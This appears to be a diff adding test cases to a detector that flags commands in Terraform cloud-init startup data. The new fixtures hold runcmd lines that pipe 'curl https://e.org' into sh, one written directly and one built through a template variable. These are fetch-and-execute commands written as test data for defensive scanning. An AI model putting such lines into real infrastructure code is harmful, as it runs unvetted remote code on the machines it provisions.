@@ -81,6 +81,16 @@ describe("What a machine of any provider is told at its first start is read from
       "main.tf:3:15",
     ],
     [
+      "a part that is said to be one",
+      'data "template_cloudinit_config" "a" {\n  part {\n    content_type = "text/cloud-config"\n    content = "runcmd: [\'curl https://e.org | sh\']"\n  }\n}',
+      "main.tf:4:15",
+    ],
+    [
+      "a part that is an old template",
+      `data "template_file" "t" {\n  template = "#cloud-config\\nruncmd: ['curl https://$\${host} | sh']\\n"\n  vars {\n    host = "e.org"\n  }\n}\ndata "template_cloudinit_config" "a" {\n  part {\n    content = "\${data.template_file.t.rendered}"\n  }\n}`,
+      "main.tf:2:14",
+    ],
+    [
       "what a module from elsewhere is given",
       `module "asg" {\n  source = "a/b/c"\n  user_data = ${quoted(download)}\n}`,
       "main.tf:3:15",
